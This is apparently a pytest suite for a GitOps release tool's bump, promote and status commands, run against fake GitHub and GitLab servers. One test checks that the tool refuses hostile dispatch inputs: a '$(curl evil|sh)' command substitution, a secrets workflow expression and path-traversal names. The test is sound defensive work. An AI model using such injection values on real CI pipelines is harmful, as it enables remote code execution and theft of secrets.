"""`berth bump`, `promote` and `status` end to end: the workflow's entry (`berth bump --event`)
driven by the real repository_dispatch and workflow_dispatch payloads (tests/upstream, with
their client_payload and inputs replaced), against the fake GitHub and GitLab on 127.0.0.1.
One branch and one pull request per app and environment, updated and not duplicated, closed
when the base has the release already; hostile values refused before any request is made.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, TextIO

import pytest

import generator.commands.bump
from generator.hosts.connect import GitHost, GitHubHost, Secret, host_from_environment
from generator.hosts.retry import WaitBudget
from tests.support.fake_github import FakeGitHub
from tests.support.fake_gitlab import FakeGitLab
from tests.support.repo import berth, git, make_repo, tree, write
from tests.support.tools import reference

API = """\
# The payments API: CI bumps dev.
apiVersion: berth.dev/v1alpha1
kind: Application
metadata:
  name: api
spec:
  blueprint: web-service
  image: ghcr.io/acme/payments-api
  port: 8080
  resources: {cpu: 250m, memory: 256Mi}
  environments:
    dev:     {tag: "1.4.0", replicas: 1}   # bumped by CI
    staging: {tag: "1.4.0", replicas: 2}
    prod:    {tag: "1.3.2", replicas: 3}
"""
APP_FILE = "tenants/payments/apps/api.yaml"
CI_VARIABLES = (
    "GITHUB_ACTIONS",
    "GITHUB_REPOSITORY",
    "GITHUB_TOKEN",
    "GITHUB_API_URL",
    "GITHUB_EVENT_PATH",
    "GITHUB_REF_NAME",
    "GITLAB_CI",
    "CI_API_V4_URL",
    "CI_PROJECT_ID",
    "CI_JOB_TOKEN",
    "CI_DEFAULT_BRANCH",
    "BERTH_GITLAB_TOKEN",
    "BERTH_BASE_BRANCH",
    *(f"BERTH_{f}" for f in ("TENANT", "APP", "ENVIRONMENT", "TAG", "DIGEST")),
)


@pytest.fixture(autouse=True)
def no_ci(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in CI_VARIABLES:
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(autouse=True)
def unthrottled(monkeypatch: pytest.MonkeyPatch) -> None:
    def pick(env: Mapping[str, str], *, out: TextIO) -> GitHost:
        host = host_from_environment(env, out=out)
        if isinstance(host, GitHubHost):
            return GitHubHost(
                repository=host.repository,
                token=Secret(env["GITHUB_TOKEN"]),
                api_url=host.api_url,
                budget=WaitBudget(5, lambda _: None),
                throttle=False,
            )
        return host

    monkeypatch.setattr(generator.commands.bump, "host_from_environment", pick)


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = make_repo(tmp_path / "checkout", commit=False)
    write(root, {APP_FILE: API})
    assert berth(root, "render")[0] == 0
    git(root, "-c", "init.defaultBranch=main", "init", "-q")
    git(root, "add", "-A")
    git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "base")
    return root


@pytest.fixture
def github(checkout: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        fake.git.commit_files(fake.default_branch, tree(checkout), "The platform repository")
        monkeypatch.setenv("GITHUB_ACTIONS", "true")
        monkeypatch.setenv("GITHUB_REPOSITORY", fake.full_name)
        monkeypatch.setenv("GITHUB_API_URL", fake.api_url)
        monkeypatch.setenv("GITHUB_TOKEN", fake.token)
        monkeypatch.setenv("GITHUB_REF_NAME", fake.default_branch)
        yield fake


def dispatch(tmp_path: Path, name: str = "repository", **values: str) -> Path:
    """The vendored payload of `repository_dispatch` (type berth-bump) or `workflow_dispatch`
    carrying `values`."""
    payload: dict[str, Any] = json.loads(
        reference("github", "webhooks", f"{name}_dispatch.payload.json").read_text()
    )
    if name == "repository":
        payload["action"] = "berth-bump"
        payload["client_payload"] = values
    else:
        payload["inputs"] = values
    path = tmp_path / f"{name}-{len(list(tmp_path.iterdir()))}.json"
    path.write_text(json.dumps(payload))
    return path


def bump(checkout: Path, event: Path) -> tuple[int, str, str]:
    """One run of berth-release.yml: a fresh checkout of main, then `berth bump --event`."""
    git(checkout, "checkout", "-q", "--", ".")
    git(checkout, "clean", "-qfd", "environments", "tenants")
    return berth(checkout, "bump", "--event", str(event))


def test_a_dispatch_opens_one_pull_request_then_updates_it(
    checkout: Path, github: FakeGitHub, tmp_path: Path
) -> None:
    values = {"tenant": "payments", "app": "api", "environment": "dev"}
    code, out, err = bump(checkout, dispatch(tmp_path, tag="1.5.0", **values))

    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/bump/payments-api-dev")
    assert pull["title"] == "berth: bump payments/api to 1.5.0 in dev"
    assert pull["body"].startswith("Releases `1.5.0` of `payments/api` in `dev` (was `1.4.0`).")
    assert "`payments/api: 1.4.0 -> 1.5.0 in dev`" in pull["body"]
    files = github.git.files("berth/bump/payments-api-dev")
    assert files[APP_FILE].decode() == API.replace(
        'dev:     {tag: "1.4.0"', 'dev:     {tag: "1.5.0"'
    )
    values_file = "environments/dev/tenants/payments/apps/api.values.yaml"
    assert 'tag: "1.5.0"' in files[values_file].decode()
    changed = {p for p, d in files.items() if github.git.files("master").get(p) != d}
    assert changed == {APP_FILE, values_file}

    # A newer bump replaces the older one on the same branch and pull request.
    code, _, _ = bump(checkout, dispatch(tmp_path, "workflow", tag="1.6.0", **values))
    assert code == 0
    [again] = github.open_pulls("berth/bump/payments-api-dev")
    assert again["number"] == pull["number"] and again["title"].endswith("1.6.0 in dev")
    head = github.git.commits[github.git.refs["refs/heads/berth/bump/payments-api-dev"]]
    assert head.parents == [github.git.refs["refs/heads/master"]]  # one commit on main
    assert b'{tag: "1.6.0"' in github.git.files("berth/bump/payments-api-dev")[APP_FILE]

    # Another environment is another pull request.
    code, _, _ = bump(
        checkout, dispatch(tmp_path, tag="1.6.0", **values | {"environment": "staging"})
    )
    assert code == 0
    assert len(github.open_pulls("berth/bump/payments-api-staging")) == 1
    assert len(github.open_pulls("berth/bump/payments-api-dev")) == 1

    # A bump to what main runs already closes the outdated pull request, and writes nothing.
    start = len(github.requests)
    code, out, _ = bump(checkout, dispatch(tmp_path, tag="1.4.0", **values))
    assert code == 0 and "has this release already" in out
    assert github.open_pulls("berth/bump/payments-api-dev") == []
    assert [m for m, p in github.calls()[start:] if m != "GET"] == ["POST", "PATCH"]
    assert git(checkout, "status", "--porcelain") == ""


@pytest.mark.parametrize(
    "values",
    [
        {"tenant": "payments", "app": "api", "environment": "dev", "tag": "$(curl evil|sh)"},
        {"tenant": "payments", "app": "api", "environment": "dev", "tag": "${{ secrets.X }}"},
        {"tenant": "..", "app": "api", "environment": "dev", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api/../../x", "environment": "dev", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api", "environment": "qa", "tag": "1.5.0"},
        {"tenant": "payments", "app": "api", "environment": "dev", "digest": "sha256:00"},
        {"tenant": "payments", "app": "api", "environment": "dev"},
        {"tenant": "payments", "app": "api", "tag": "1.5.0"},
        {"tenant": ["payments"], "app": "api", "environment": "dev", "tag": "1.5.0"},
    ],
    ids=[
        "command substitution",
        "workflow expression",
        "dot-dot tenant",
        "path in app",
        "unknown environment",
        "malformed digest",
        "no image",
        "no environment",
        "not text",
    ],
)
def test_hostile_payloads_are_refused_before_anything_is_sent(
    checkout: Path, github: FakeGitHub, tmp_path: Path, values: dict[str, Any]
) -> None:
    before = tree(checkout)
    start = len(github.requests)

    code, out, err = bump(checkout, dispatch(tmp_path, **values))

    assert code == 1, out + err
    assert err.startswith(("<arguments>:1:1: ", f"{tmp_path}/")), err
    assert "Traceback" not in err
    assert github.requests[start:] == []
    assert tree(checkout) == before


def test_a_dispatch_of_another_type_is_refused(checkout: Path, tmp_path: Path) -> None:
    event = dispatch(tmp_path, tenant="payments", app="api", environment="dev", tag="1.5.0")
    payload = json.loads(event.read_text())
    event.write_text(json.dumps(payload | {"action": "on-demand-test"}))

    code, _, err = berth(checkout, "bump", "--event", str(event))

    assert code == 1 and "action: the dispatch type must be 'berth-bump'" in err


def test_gitlab_trigger_variables_open_one_merge_request(
    checkout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with FakeGitLab() as fake:
        fake.git.commit_files(fake.default_branch, tree(checkout), "The platform repository")
        for name, value in {
            "GITLAB_CI": "true",
            "CI_API_V4_URL": fake.api_url,
            "CI_PROJECT_ID": str(fake.project_id),
            "BERTH_GITLAB_TOKEN": fake.token,
            "BERTH_TENANT": "payments",
            "BERTH_APP": "api",
            "BERTH_ENVIRONMENT": "dev",
            "BERTH_TAG": "1.5.0",
        }.items():
            monkeypatch.setenv(name, value)

        code, out, err = berth(checkout, "bump", "--from-variables", "--into", "master")
        assert (code, err) == (0, ""), out
        [request] = fake.open_merge_requests("berth/bump/payments-api-dev")
        assert request["title"] == "berth: bump payments/api to 1.5.0 in dev"

        git(checkout, "checkout", "-q", "--", ".")
        monkeypatch.setenv("BERTH_TAG", "1.4.0")
        code, out, _ = berth(checkout, "bump", "--from-variables", "--into", "master")
        assert code == 0
        assert fake.open_merge_requests("berth/bump/payments-api-dev") == []


def test_promotion_opens_one_pull_request_per_tenant_and_environment(
    checkout: Path, github: FakeGitHub
) -> None:
    code, out, err = berth(checkout, "promote", "payments", "--from", "staging", "--to", "prod")

    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/promote/payments-prod")
    assert pull["title"] == "berth: promote payments from staging to prod"
    assert "- api: 1.3.2 -> 1.4.0 in prod" in pull["body"]
    assert (
        b'prod:    {tag: "1.4.0", replicas: 3}'
        in github.git.files("berth/promote/payments-prod")[APP_FILE]
    )


def test_a_skipping_promotion_warns_in_the_plan_and_fails_the_check_without_the_label(
    checkout: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(checkout, {APP_FILE: API.replace('dev:     {tag: "1.4.0"', 'dev:     {tag: "1.5.0"')})
    git(checkout, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qam", "dev")
    code, out, err = berth(
        checkout, "promote", "payments/api", "--from", "dev", "--to", "prod", "--skip-environments"
    )
    assert code == 0, err
    assert "An image goes into an environment that syncs by hand" in out
    assert "berth/approve-skip" in out

    code, _, err = berth(checkout, "plan", "--base", "HEAD", "--fail-on-skip")
    assert code == 1
    assert (
        "payments/api: 1.3.2 -> 1.5.0 in prod did not run in staging before this change (it ran 1.4.0)"
        in err
    )

    event = tmp_path / "pull_request.json"
    pull = json.loads(
        reference("github", "webhooks", "pull_request.opened.payload.json").read_text()
    )
    labelled = copy.deepcopy(pull)
    labelled["pull_request"]["labels"] = [{"name": "berth/approve-skip"}]
    event.write_text(json.dumps(labelled))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    # The label counts only once the host says a maintainer added it (test_plan_labels.py):
    # without a token to ask, the check fails closed.
    code, _, err = berth(checkout, "plan", "--base", "HEAD", "--fail-on-skip")
    assert code == 2 and "cannot read the label events of pull request #2" in err


def test_status_in_three_formats(checkout: Path) -> None:
    code, text, _ = berth(checkout, "status")
    assert code == 0
    assert text == (
        "APP           DEV    STAGING  PROD\n"
        "payments/api  1.4.0  1.4.0    1.3.2 *\n"
        "* differs from the environment before it: `berth promote` moves it\n"
    )
    _, markdown, _ = berth(checkout, "status", "payments", "--format", "markdown")
    assert "| `payments/api` | `1.4.0` | `1.4.0` | **`1.3.2`** |" in markdown
    _, data, _ = berth(checkout, "status", "--format", "json")
    prod = json.loads(data)["apps"][0]["environments"]["prod"]
    assert prod == {"tag": "1.3.2", "digest": None, "differs": True}
    code, _, err = berth(checkout, "status", "nobody")
    assert code == 1 and "there is no tenant 'nobody'" in err


def _auto_merge_dev(checkout: Path) -> None:
    platform = (checkout / "platform.yaml").read_text()
    marked = platform.replace(
        "      sync: auto                                  # auto | manual\n",
        "      sync: auto                                  # auto | manual\n      autoMerge: bumps\n",
        1,
    )
    assert marked != platform
    write(checkout, {"platform.yaml": marked})
    git(checkout, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qam", "auto")


def test_auto_merge_is_enabled_on_bumps_into_a_marked_environment_only(
    checkout: Path, github: FakeGitHub, tmp_path: Path
) -> None:
    _auto_merge_dev(checkout)
    values = {"tenant": "payments", "app": "api", "tag": "1.5.0"}

    code, out, err = bump(checkout, dispatch(tmp_path, environment="dev", **values))
    assert (code, err) == (0, ""), out
    [pull] = github.open_pulls("berth/bump/payments-api-dev")
    assert pull["auto_merge"] == {"merge_method": "squash"}
    [graphql] = [b for m, p, _, b in github.trace() if p == "/api/graphql"]
    assert graphql["variables"]["input"]["pullRequestId"] == pull["node_id"]

    code, _, _ = bump(checkout, dispatch(tmp_path, environment="staging", **values))
    assert code == 0
    [staging] = github.open_pulls("berth/bump/payments-api-staging")
    assert staging.get("auto_merge") is None


def test_auto_merge_on_gitlab_merges_when_the_pipeline_succeeds(
    checkout: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _auto_merge_dev(checkout)
    with FakeGitLab() as fake:
        fake.git.commit_files(fake.default_branch, tree(checkout), "The platform repository")
        for name, value in {
            "GITLAB_CI": "true",
            "CI_API_V4_URL": fake.api_url,
            "CI_PROJECT_ID": str(fake.project_id),
            "BERTH_GITLAB_TOKEN": fake.token,
        }.items():
            monkeypatch.setenv(name, value)
        code, out, err = berth(
            checkout, "bump", "payments/api", "--env", "dev", "--tag", "1.5.0", "--into", "master"
        )
        assert (code, err) == (0, ""), out
        [request] = fake.open_merge_requests("berth/bump/payments-api-dev")
        assert request["merge_when_pipeline_succeeds"] is True


def test_auto_merge_is_refused_for_a_manual_environment(checkout: Path) -> None:
    platform = (checkout / "platform.yaml").read_text()
    write(
        checkout,
        {
            "platform.yaml": platform.replace(
                "      sync: manual\n", "      sync: manual\n      autoMerge: bumps\n"
            )
        },
    )
    code, out, _ = berth(checkout, "validate")
    assert code == 1
    assert "autoMerge is only for environments with sync: auto" in out
